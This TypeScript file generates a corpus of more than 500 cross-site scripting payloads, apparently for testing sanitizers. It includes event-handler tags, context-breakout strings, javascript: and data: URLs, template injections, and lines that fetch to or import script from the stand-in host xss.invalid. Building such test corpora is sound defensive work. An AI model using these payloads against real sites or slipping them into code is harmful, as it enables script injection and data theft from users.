/**
 * Texts that run a script where a screen takes them for markup, a link, a style or a template. Whatever
 * element one of them makes carries `data-xss`, and whatever runs sets `hacked` or asks `xss.invalid`.
 */
const RUN = [
  "hacked=1",
  "top.hacked=1",
  "alert(1)",
  "fetch('https://xss.invalid/'+document.domain)",
  "(0,eval)('hacked=1')",
  "import('https://xss.invalid/a.js')",
] as const;

const HANDLERS = [
  ["img", "src=x", "onerror"],
  ["svg", "", "onload"],
  ["body", "", "onload"],
  ["iframe", "src=about:blank", "onload"],
  ["input", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["video", "", "onerror"],
  ["audio", "src=x", "onerror"],
  ["details", "open", "ontoggle"],
  ["marquee", "", "onstart"],
  ["object", "data=x", "onerror"],
  ["embed", "src=x", "onload"],
  ["style", "", "onload"],
  ["link", "rel=stylesheet href=x", "onerror"],
  ["div", "style=animation-name:spin", "onanimationstart"],
  ["a", "href=# tabindex=1", "onmouseover"],
  ["button", "popovertarget=x", "onclick"],
  ["form", "", "onsubmit"],
  ["math", "", "onclick"],
] as const;

/** How a text gets out of where it was put. */
const OUT = [
  "",
  `">`,
  `'>`,
  "`>",
  "</textarea>",
  "</title>",
  "</style>",
  "</script>",
  "-->",
  "]]>",
  `" x="`,
  "</noscript>",
  "</template>",
  "\u2028",
  "\u202e",
];

const MARKUP = [
  "<script data-xss>RUN</script>",
  "<ScRiPt data-xss>RUN</sCrIpT>",
  "<script data-xss src=//xss.invalid/a.js></script>",
  "<script data-xss src=data:text/javascript,hacked=1></script>",
  "<svg data-xss><script>RUN</script></svg>",
  "<svg data-xss><animate onbegin=RUN attributeName=x dur=1s>",
  "<svg data-xss><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
  "<svg data-xss><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'></svg>",
  "<math data-xss><mtext><table><mglyph><style><img src=x onerror=RUN>",
  "<iframe data-xss srcdoc='<script>parent.RUN</script>'></iframe>",
  "<iframe data-xss src='javascript:parent.RUN'></iframe>",
  "<a data-xss href='javascript:RUN'>x</a>",
  "<form data-xss action='javascript:RUN'><button>x</button></form>",
  "<button data-xss formaction='javascript:RUN'>x</button>",
  "<meta data-xss http-equiv=refresh content='0;url=javascript:RUN'>",
  "<base data-xss href='https://xss.invalid/'>",
  "<link data-xss rel=stylesheet href=https://xss.invalid/a.css>",
  "<style data-xss>@import 'https://xss.invalid/a.css';</style>",
  "<style data-xss>*{background:url(https://xss.invalid/)}</style>",
  "<template data-xss><img src=x onerror=RUN></template>",
  "<x data-xss id=location onclick=RUN style=display:block>x</x>",
  "<img data-xss src=x:x onerror=RUN//",
  "<<img data-xss src=x onerror=RUN>",
  "<img/data-xss/src=x/onerror=RUN>",
  "<img data-xss src=x onerror\n=\nRUN>",
  "<noscript><p title='</noscript><img data-xss src=x onerror=RUN>'>",
  "<!--><img data-xss src=x onerror=RUN>-->",
  "<![CDATA[<img data-xss src=x onerror=RUN>]]>",
  "<?xml version='1.0'?><img data-xss src=x onerror=RUN>",
  "&lt;img data-xss src=x onerror=RUN&gt;",
  "&#60;img data-xss src=x onerror=RUN&#62;",
  "\\u003cimg data-xss src=x onerror=RUN\\u003e",
  "%3Cimg data-xss src=x onerror=RUN%3E",
  "＜img data-xss src=x onerror=RUN＞",
  "{{constructor.constructor('RUN')()}}",
  "${RUN}",
  "#{RUN}",
  "<%= RUN %>",
  "';RUN;//",
  '";RUN;//',
  "\\';RUN;//",
  "*/RUN/*",
  "[x](javascript:RUN)",
  "![x](https://xss.invalid/a.png)",
  '{"__html":"<img data-xss src=x onerror=RUN>"}',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"RUN"}}}',
] as const;

/** Where a link is expected. */
const ADDRESSES = [
  "javascript:RUN",
  "JaVaScRiPt:RUN",
  " javascript:RUN",
  "java\tscript:RUN",
  "java\nscript:RUN",
  "\u0001javascript:RUN",
  "javascript://xss.invalid/%0aRUN",
  "javascript:/*https://shop.test*/RUN",
  "data:text/html,<script>RUN</script>",
  "data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=RUN>",
  "vbscript:RUN",
  "blob:https://xss.invalid/1",
  "filesystem:https://xss.invalid/1",
  "view-source:javascript:RUN",
  "feed:javascript:RUN",
  "\\\\xss.invalid\\a",
] as const;

function* made(): Generator<string> {
  for (const run of RUN) {
    for (const template of [...MARKUP, ...ADDRESSES]) yield template.replaceAll("RUN", run);
  }
  for (const [i, [tag, attributes, handler]] of HANDLERS.entries()) {
    for (const [j, out] of OUT.entries()) {
      yield `${out}<${tag} data-xss ${attributes} ${handler}=${RUN[(i + j) % RUN.length] ?? "hacked=1"}>`;
    }
  }
}

/** More than 500 of them, each once, in a fixed order. */
export const PAYLOADS: readonly string[] = [...new Set(made())];
